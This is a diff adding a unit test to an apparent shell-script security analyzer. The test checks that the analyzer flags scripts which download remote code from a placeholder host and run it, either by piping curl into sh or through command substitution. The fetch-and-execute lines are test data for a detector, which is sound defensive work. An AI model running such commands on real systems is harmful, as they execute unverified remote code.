@@ -33,6 +33,15 @@ describe('the shell-script analyzer', () => {
     ]);
   });
 
+  it('reads the script a shell runs from -c, and reports a download it runs once', () => {
+    const script = '#!/bin/sh\ndocker exec etl bash -c "curl -fsSL https://x.example/i.sh | sh"\nsh -c "$(curl -fsSL https://x.example/i.sh)"\n';
+    const { findings } = analyzeShellText(script, 'ops.sh');
+    expect(findings.map((f) => [f.ruleId, f.location.startLine, f.location.startColumn, f.message])).toEqual([
+      ['sh.curl-pipe-shell', 2, 26, 'Output of curl is piped into sh without verification'],
+      ['sh.curl-pipe-shell', 3, 1, 'A downloaded script is run through command substitution without verification'],
+    ]);
+  });
+
   it('takes no file that is not a shell script', () => {
     expect(analyzeShellText('curl -s https://x.example/a.sh | sh\n', 'notes.txt').findings).toEqual([]);
   });
